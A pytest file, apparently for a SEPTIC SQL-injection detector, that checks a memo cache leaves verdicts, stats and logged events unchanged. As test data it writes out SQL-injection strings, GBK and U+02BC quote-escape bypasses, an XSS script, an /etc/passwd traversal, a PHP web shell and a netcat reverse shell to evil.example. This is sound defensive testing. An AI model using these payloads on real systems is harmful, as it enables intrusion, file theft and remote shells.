"""Verdict invariance: the memo changes what the hook costs, never what
it decides or records.

The statements the four applications issue for their recorded requests,
plus those of every ``repro.attacks`` case, are replayed through local
``query``, ``execute_prepared`` and the wire — three times, so that
every statement meets the hook cold (the pipeline cache empty, nothing
memoised), shape-hot (the same statements with *other literals*: texts
never seen, whose cache entries — QM, ID and verdict with them — were
warmed by a different text of the shape) and L1-hot (its own text
cached).  The same replay runs against a control that has no pipeline
cache, and so no memo at all: the cold hook, every time.
Blocked/allowed per statement, ``SepticStats.as_dict()`` and the kind,
query ID, sequence number, attack type, step and detail of every
significant event must be identical after each pass, in PREVENTION and
DETECTION and under all four Figure 5 configurations.

The second half is the argument that makes sharing an entry safe, as a
property over the same statements and seeded mutations of them: texts
on one entry ⇒ equal item-stack shapes ⇒ one QM and one ID, and an
attack that finds its shape's benign verdict waiting fails the
verdict's check of its inputs and is blocked, by that check, as the
control's full run blocks it.

The last part sends stored-injection payloads — one per default plugin —
through *warm* INSERT, REPLACE and UPDATE shapes, by ``query``,
``execute_prepared``, the wire and a 2-shard router, against the same
control and under the same four configurations: the register rows the
warm shape's check writes for a payload are the ones the control's full
run writes.
"""

import random
import re
from collections import Counter

import pytest

from repro.apps.addressbook import AddressBook
from repro.apps.refbase import Refbase
from repro.apps.waspmon import WaspMon
from repro.apps.zerocms import ZeroCMS
from repro.attacks.corpus import waspmon_attacks
from repro.core import septic as septic_mod
from repro.core.detector import BENIGN
from repro.core.manager import QSQMManager
from repro.core.query_structure import QueryStructure
from repro.core.query_model import QueryModel
from repro.core.septic import Mode, Septic, SepticConfig
from repro.core.training import SepticTrainer
from repro.net.client import NetClient
from repro.net.server import NetServer
from repro.shard import ShardRouter
from repro.sqldb import charset as charset_mod
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import QueryBlocked, SQLError
from repro.sqldb.parser import parse_sql
from repro.sqldb.validator import validate
from repro.web.app import PhpRuntime

from tests.conftest import vary_literals

APPS = (WaspMon, AddressBook, Refbase, ZeroCMS)
PASSES = ("cold", "shape-hot", "L1-hot")


def _recorded_requests(app):
    if hasattr(app, "workload_requests"):
        return app.workload_requests()
    return app.benign_requests()


def _trained_stack(cache_size):
    """The four applications on one database, trained the way the demo
    trains (recorded series plus the crawler's form samples)."""
    septic = Septic(mode=Mode.TRAINING)
    database = Database(septic=septic, cache_size=cache_size)
    apps = [cls(database) for cls in APPS]
    for app in apps:
        for request in _recorded_requests(app):
            app.handle(request)
        for request in SepticTrainer(app, septic).crawl():
            app.handle(request)
    return database, septic, apps


class _Recorder(object):
    """Stands where ``PhpRuntime.connection`` stood and notes the text
    and charset of every statement."""

    def __init__(self, inner, sink):
        self._inner = inner
        self._sink = sink

    def query(self, sql):
        self._sink.append((sql, self._inner.charset))
        return self._inner.query(sql)

    def __getattr__(self, name):
        return getattr(self._inner, name)


@pytest.fixture(scope="module")
def statements():
    """``(sql, charset)`` of every statement the benign series and the
    attack corpus issue — captured in DETECTION, so an attack request
    runs to its last statement."""
    _database, septic, apps = _trained_stack(cache_size=512)
    septic.mode = Mode.DETECTION
    sink = []
    for app in apps:
        for runtime in vars(app).values():
            if isinstance(runtime, PhpRuntime):
                runtime.connection = _Recorder(runtime.connection, sink)
    for app in apps:
        for request in _recorded_requests(app):
            app.handle(request)
    waspmon = apps[0]
    for case in waspmon_attacks():
        for item in case.requests:
            waspmon.handle(item(waspmon) if callable(item) else item)
    assert len(sink) > 80
    assert {charset for _sql, charset in sink} == {"utf8", "gbk"}
    return sink


@pytest.fixture(scope="module")
def variants(statements):
    """The same statements with other literals of the same kinds."""
    rng = random.Random(20260930)
    out = [(vary_literals(sql, rng), charset)
           for sql, charset in statements]
    changed = sum(1 for old, new in zip(statements, out) if old != new)
    assert changed > len(statements) // 2
    return out


# -- the three entry points ---------------------------------------------------

def _verdict(error):
    if error is None:
        return "ok"
    if isinstance(error, QueryBlocked) or getattr(error, "blocked", False):
        return "blocked"
    return "error"


class _Local(object):
    def __init__(self, database):
        self._database = database
        self._connections = {}

    def _connection(self, charset):
        if charset not in self._connections:
            self._connections[charset] = Connection(self._database,
                                                    charset=charset)
        return self._connections[charset]

    def run(self, sql, charset):
        return _verdict(self._connection(charset).query(sql).error)

    def close(self):
        pass


class _Prepared(_Local):
    """Each text prepared once (zero parameters) and its handle reused,
    so the third pass finds the handle's cache entry."""

    def __init__(self, database):
        _Local.__init__(self, database)
        self._handles = {}

    def run(self, sql, charset):
        conn = self._connection(charset)
        key = (sql, charset)
        if key not in self._handles:
            try:
                self._handles[key] = conn.prepare(sql)
            except SQLError:
                self._handles[key] = None  # stacked or malformed text
        handle = self._handles[key]
        if handle is None:
            return "unpreparable"
        return _verdict(conn.execute_prepared(handle).error)


class _Wire(object):
    def __init__(self, database):
        self._server = NetServer(database)
        self._server.start()
        self._clients = {}

    def run(self, sql, charset):
        client = self._clients.get(charset)
        if client is None:
            client = self._clients[charset] = NetClient(
                self._server.host, self._server.port, charset=charset)
        return _verdict(client.query(sql).error)

    def close(self):
        for client in self._clients.values():
            client.close()
        self._server.stop()


ENTRY_POINTS = {"query": _Local, "execute_prepared": _Prepared,
                "wire": _Wire}


# -- one replay ---------------------------------------------------------------

def _significant(septic):
    # the register is not verbose, so it holds significant events only
    return [(event.kind, event.query_id, event.sequence, event.attack_type,
             event.step, event.detail)
            for event in septic.logger.events]


def _replay(statements, variants, entry_point, mode, flags, cache_size,
            counts=None):
    """Train, hand the models to a fresh SEPTIC in *mode* under *flags*,
    and replay once per pass — *variants* in the shape-hot pass, over
    the cache the cold pass filled.  Returns one observation per stage
    — training, then each pass — and, per pass, what *counts* (a
    ``Counter`` some patched callables bump) read."""
    database, trainer, _apps = _trained_stack(cache_size)
    observed = [("training", None, trainer.stats.as_dict(),
                 _significant(trainer))]
    septic = Septic(mode=mode, config=SepticConfig.from_flags(flags),
                    store=trainer.store)
    database.septic = septic
    driver = ENTRY_POINTS[entry_point](database)
    per_pass = []
    try:
        for name in PASSES:
            if name == "cold" and database.pipeline_cache is not None:
                database.pipeline_cache.clear()     # training filled it
            if counts is not None:
                counts.clear()
            texts = variants if name == "shape-hot" else statements
            verdicts = [driver.run(sql, charset) for sql, charset in texts]
            observed.append((name, verdicts, septic.stats.as_dict(),
                             _significant(septic)))
            per_pass.append(Counter(counts))
    finally:
        driver.close()
    return observed, per_pass


def _count_avoidable_work(monkeypatch):
    """A ``Counter`` of the calls the memo exists to avoid."""
    counts = Counter()
    receive = QSQMManager.receive
    from_structure = QueryModel.__dict__["from_structure"].__func__

    def counting_receive(self, context, checkpoint=None):
        counts["receive"] += 1
        return receive(self, context, checkpoint)

    def counting_from_structure(cls, structure):
        counts["from_structure"] += 1
        return from_structure(cls, structure)

    def counting_parse(*args, **kwargs):
        counts["parse"] += 1
        return parse_sql(*args, **kwargs)

    monkeypatch.setattr(QSQMManager, "receive", counting_receive)
    monkeypatch.setattr(QueryModel, "from_structure",
                        classmethod(counting_from_structure))
    monkeypatch.setattr("repro.sqldb.engine.parse_sql", counting_parse)
    return counts


@pytest.fixture(scope="module")
def controls():
    """Control observations per (entry point, mode, flags): no pipeline
    cache, so no memo — the cold hook.  Filled on first use by
    :func:`_control`."""
    return {}


def _control(controls, statements, variants, entry_point, mode, flags):
    key = (entry_point, mode, flags)
    if key not in controls:
        controls[key], _ = _replay(statements, variants, entry_point,
                                   mode, flags, cache_size=0)
    return controls[key]


@pytest.mark.parametrize("flags", ["NN", "YN", "NY", "YY"])
@pytest.mark.parametrize("mode", [Mode.PREVENTION, Mode.DETECTION])
@pytest.mark.parametrize("entry_point", sorted(ENTRY_POINTS))
def test_memos_change_no_verdict_stat_or_event(statements, variants,
                                               controls, monkeypatch,
                                               entry_point, mode, flags):
    control = _control(controls, statements, variants, entry_point, mode,
                       flags)
    counts = _count_avoidable_work(monkeypatch)
    # large enough that the last pass finds every entry of the first
    memoised, (cold, shape_hot, l1_hot) = _replay(
        statements, variants, entry_point, mode, flags, cache_size=4096,
        counts=counts)
    for expected, actual in zip(control, memoised):
        stage = "%s/%s/%s/%s" % (entry_point, mode, flags, expected[0])
        assert actual[1] == expected[1], stage + ": verdicts"
        assert actual[2] == expected[2], stage + ": stats"
        assert actual[3] == expected[3], stage + ": significant events"
    assert len(memoised) == len(control) == 1 + len(PASSES)

    # the passes were what they claim to be
    assert cold["from_structure"] > 0
    assert l1_hot["from_structure"] == 0
    assert l1_hot["receive"] < cold["receive"] // 2
    if entry_point != "execute_prepared":
        # (a zero-parameter handle per text has no other text to share
        # with; literal texts do, and skip parser, derivation and full
        # run alike)
        assert l1_hot["parse"] == 0 < cold["parse"]
        assert shape_hot["parse"] < cold["parse"] // 2
        assert shape_hot["from_structure"] < cold["from_structure"] // 2
        assert shape_hot["receive"] < cold["receive"]


def test_the_replay_blocks_and_passes(statements, variants, controls):
    """The corpus exercises both verdicts (else equality above is
    vacuous), and DETECTION blocks nothing."""
    prevention = _control(controls, statements, variants, "query",
                          Mode.PREVENTION, "YY")
    detection = _control(controls, statements, variants, "query",
                         Mode.DETECTION, "YY")
    for _name, verdicts, stats, _events in prevention[1:]:
        assert verdicts.count("blocked") >= 15
        assert verdicts.count("ok") >= 60
        assert stats["queries_dropped"] > 0
    for _name, verdicts, stats, _events in detection[1:]:
        assert "blocked" not in verdicts
        assert stats["attacks_detected"] > 0
        assert stats["queries_dropped"] == 0


# -- sharing an entry is safe -------------------------------------------------

_KEYWORD = re.compile(
    r"\b(select|from|where|and|or|insert|into|values|update|set|delete|"
    r"order|by|limit|like|union)\b", re.I)
_QUOTED = re.compile(r"'([^'\\]*)'")


def _mutations(sql, rng):
    """Seeded rewrites of one text.  Some keep its meaning, some change
    its data, some turn it into an injection — the property below must
    hold whatever they do."""
    yield vary_literals(sql, rng)
    yield _KEYWORD.sub(lambda m: m.group(0).swapcase(), sql)
    yield sql.replace(" ", rng.choice(["  ", "\t", "\n", " \r\n "]))
    yield sql + rng.choice([" /* probe */", " # probe", " -- probe"])
    yield sql.replace(" ", " /**/ ", 1)
    payload = rng.choice([" OR 1=1 -- ", " UNION SELECT 1, 2 -- ",
                          "; DROP TABLE users -- "])
    # GBK %bf%5c: the lead byte eats the escaping backslash, the quote
    # that follows closes the string
    yield _QUOTED.sub(lambda m: "'%s¿\\'%s'" % (m.group(1), payload),
                      sql, count=1)
    # U+02BC folds to a quote after any escaping was applied
    yield _QUOTED.sub(lambda m: "'%sʼ%s'" % (m.group(1), payload),
                      sql, count=1)
    # a stored-injection payload: same shape, other data
    yield _QUOTED.sub(lambda m: "'<script>alert(%d)</script>'"
                      % rng.randrange(100), sql, count=1)


def _cold_stack(database, sql, charset):
    """The item stack the cold path gives *sql*: literals in place."""
    decoded = charset_mod.decode_query(sql, charset)
    statements, _comments = parse_sql(decoded)
    return validate(statements[0], database.tables)


def test_texts_that_share_an_entry_share_a_stack_shape(statements):
    rng = random.Random(4099)
    texts = []
    for sql, charset in statements:
        texts.append((sql, charset))
        for mutated in _mutations(sql, rng):
            # both decoders see every mutation: what is data under one
            # is an injection under the other
            texts.append((mutated, "utf8"))
            texts.append((mutated, "gbk"))
    control_db, trainer, _apps = _trained_stack(cache_size=0)
    control = Septic(mode=Mode.PREVENTION, store=trainer.store)
    control_db.septic = control
    driver = _Local(control_db)
    truth = [[driver.run(sql, charset) for sql, charset in texts]
             for _round in range(2)]
    database, trainer, _apps = _trained_stack(cache_size=1 << 16)
    septic = Septic(mode=Mode.PREVENTION, store=trainer.store)
    database.septic = septic
    driver = _Local(database)
    for expected in truth:
        assert [driver.run(sql, charset)
                for sql, charset in texts] == expected
    assert septic.stats.as_dict() == control.stats.as_dict()
    # blocked where the control blocked, leaving the same events under
    # the same sequence numbers
    assert _significant(septic) == _significant(control)
    assert truth[0].count("blocked") > 100 and truth[0].count("ok") > 300

    cache = database.pipeline_cache
    groups = {}
    blocked_on_a_benign_shape = 0
    for (sql, charset), verdict in zip(texts, truth[1]):
        text = cache.probe(charset, sql, database.schema_version)
        if text is None:
            continue            # did not lex or parse: nothing cached
        entry = text.entry
        if verdict == "blocked":
            # a blocked text is still blocked when its shape holds a
            # benign verdict (a stored payload in a known INSERT or
            # UPDATE): its inputs do not pass the verdict's check
            held = entry.septic_memo.verdict
            if held is not None:
                assert held.slots, sql
                assert septic_mod._inspect_inputs(
                    held, text.values) is not BENIGN, sql
                blocked_on_a_benign_shape += 1
        if not entry.single_statement:
            continue
        try:
            cold = _cold_stack(database, sql, charset)
        except SQLError as exc:
            assert entry.stack is None, sql
            cold = type(exc).__name__
        else:
            if entry.stack is not None:
                # the late-bound stack is the cold stack, item for item
                assert QueryStructure.from_stack(
                    entry.stack, text.values).nodes == cold, sql
            # one entry, one QM: what the entry's memo may keep
            cold = QueryModel.from_structure(
                QueryStructure.from_stack(cold)).canonical()
        groups.setdefault(id(entry), []).append((cold, sql))
    assert blocked_on_a_benign_shape > 5
    shared = [group for group in groups.values() if len(group) > 1]
    assert len(shared) > 30
    for group in shared:
        models = {model for model, _sql in group}
        assert len(models) == 1, [sql for _model, sql in group][:3]


# -- stored payloads through warm write shapes --------------------------------

_NOTES = ("CREATE TABLE notes (id INT PRIMARY KEY, owner VARCHAR(20), "
          "body VARCHAR(200))")
_WRITES = {
    "INSERT": "/* septic:notes:1 */ INSERT INTO notes (id, owner, body) "
              "VALUES (?, ?, ?)",
    "REPLACE": "/* septic:notes:2 */ REPLACE INTO notes (id, owner, body) "
               "VALUES (?, ?, ?)",
    "UPDATE": "/* septic:notes:3 */ UPDATE notes SET body = ? WHERE id = ?",
}
#: one payload per default plugin (none holds a quote or a backslash, so
#: the literal rendering below is the whole escaping story)
_PAYLOADS = {
    "StoredXSSPlugin": "<script>alert(1)</script>",
    "RFIPlugin": "http://evil.example/shell.txt?",
    "LFIPlugin": "../../../../etc/passwd",
    "OSCIPlugin": "x | nc evil.example 4444 -e /bin/sh",
    "RCEPlugin": "<?php system($_GET[1]); ?>",
}


def _write(kind, key, body):
    values = (body, key) if kind == "UPDATE" else (key, "owner%d" % key, body)
    return _WRITES[kind], values


def _write_script():
    """Training writes, then per shape: two benign runs (the second finds
    the verdict the first left), every payload with a benign write of
    the shape after it, and one more benign run."""
    training = [_write(kind, 1, "first note") for kind in _WRITES]
    script = []
    key = 10
    for kind in _WRITES:
        for body in ("a plain note", "another plain note"):
            script.append(_write(kind, key, body))
            key += 1
        for payload in _PAYLOADS.values():
            script.append(_write(kind, key, payload))
            script.append(_write(kind, key + 1, "plain again"))
            key += 2
    return training, script


def _literal_text(template, values):
    parts = template.split("?")
    rendered = [str(value) if isinstance(value, int) else "'%s'" % value
                for value in values]
    return "".join(part + value
                   for part, value in zip(parts, rendered + [""]))


class _WriteLocal(object):
    """The write script's driver over one database: literal texts
    through ``Connection.query``."""

    def __init__(self, cache, tmp_path):
        self.database = Database(septic=Septic(mode=Mode.TRAINING),
                                 cache_size=4096 if cache else 0)
        self.connection = Connection(self.database)

    def septics(self):
        return [self.database.septic]

    def create(self, ddl):
        assert self.connection.query(ddl).ok

    def run(self, template, values):
        return _verdict(self.connection.query(
            _literal_text(template, values)).error)

    def close(self):
        pass


class _WritePrepared(_WriteLocal):
    """One handle per shape, the values as its parameters."""

    def __init__(self, cache, tmp_path):
        _WriteLocal.__init__(self, cache, tmp_path)
        self._handles = {}

    def run(self, template, values):
        if template not in self._handles:
            self._handles[template] = self.connection.prepare(template)
        return _verdict(self.connection.execute_prepared(
            self._handles[template], *values).error)


class _WriteWire(_WriteLocal):
    def __init__(self, cache, tmp_path):
        _WriteLocal.__init__(self, cache, tmp_path)
        self._server = NetServer(self.database)
        self._server.start()
        self._client = NetClient(self._server.host, self._server.port)

    def run(self, template, values):
        return _verdict(self._client.query(
            _literal_text(template, values)).error)

    def close(self):
        self._client.close()
        self._server.stop()


class _WriteRouter(object):
    """A 2-shard fleet, one SEPTIC per node; ``notes`` is sharded on its
    primary key, so each write runs on its key's home shard."""

    def __init__(self, cache, tmp_path):
        self._router = ShardRouter(
            str(tmp_path / ("warm" if cache else "control")), shards=2,
            replicas=1, septic_factory=lambda: Septic(mode=Mode.TRAINING))
        self._databases = [node.database
                           for replica_set in self._router.shard_sets
                           for node in replica_set.nodes]
        if not cache:
            for database in self._databases:
                database.pipeline_cache = None

    def septics(self):
        return [database.septic for database in self._databases]

    def create(self, ddl):
        self._router.query_or_raise(ddl)

    def run(self, template, values):
        return _verdict(self._router.query(
            _literal_text(template, values)).error)

    def close(self):
        self._router.close()


WRITE_ENTRY_POINTS = {"query": _WriteLocal,
                      "execute_prepared": _WritePrepared,
                      "wire": _WriteWire, "router": _WriteRouter}


def _replay_writes(entry_point, mode, flags, cache, tmp_path):
    training, script = _write_script()
    driver = WRITE_ENTRY_POINTS[entry_point](cache, tmp_path)
    try:
        driver.create(_NOTES)
        for template, values in training:
            assert driver.run(template, values) == "ok"
        for septic in driver.septics():
            septic.config = SepticConfig.from_flags(flags)
            septic.mode = mode
        verdicts = [driver.run(template, values)
                    for template, values in script]
        return (verdicts,
                [septic.stats.as_dict() for septic in driver.septics()],
                [_significant(septic) for septic in driver.septics()])
    finally:
        driver.close()


@pytest.mark.parametrize("flags", ["NN", "YN", "NY", "YY"])
@pytest.mark.parametrize("mode", [Mode.PREVENTION, Mode.DETECTION])
@pytest.mark.parametrize("entry_point", sorted(WRITE_ENTRY_POINTS))
def test_stored_payloads_through_warm_write_shapes(entry_point, mode, flags,
                                                   tmp_path, monkeypatch):
    """A shape's benign verdict serves other benign values, and a
    payload the configuration looks for is caught by the verdict's own
    check of its inputs: verdicts, counters and register rows (sequence
    numbers, attack types and details included) are the control's, and
    no write after the warm-up takes the full run where one node runs
    them all."""
    counts = _count_avoidable_work(monkeypatch)
    control = _replay_writes(entry_point, mode, flags, False, tmp_path)
    control_runs = counts["receive"]
    counts.clear()
    warm = _replay_writes(entry_point, mode, flags, True, tmp_path)
    assert warm == control
    verdicts, stats, _events = warm
    # the plugins only run under detect_stored: without it a payload is
    # data like any other, and rides the shape's verdict
    sent = len(_WRITES) * len(_PAYLOADS)
    payloads = sent if flags[1] == "Y" else 0       # ... that are caught
    expected = "blocked" if payloads and mode == Mode.PREVENTION else "ok"
    assert verdicts.count("blocked") == (
        payloads if mode == Mode.PREVENTION else 0)
    assert [verdict for (_template, values), verdict
            in zip(_write_script()[1], verdicts)
            if set(values) & set(_PAYLOADS.values())] == [expected] * sent
    assert sum(stat["stored_detected"] for stat in stats) == payloads
    # no detected payload took the full run, and of the benign writes
    # after the warm-up none did where one node runs them all
    assert counts["receive"] < control_runs
    if entry_point != "router":
        per_shape = 2 + 2 * len(_PAYLOADS)
        assert control_runs == len(_WRITES) * (1 + per_shape)
        assert counts["receive"] == len(_WRITES) * 2
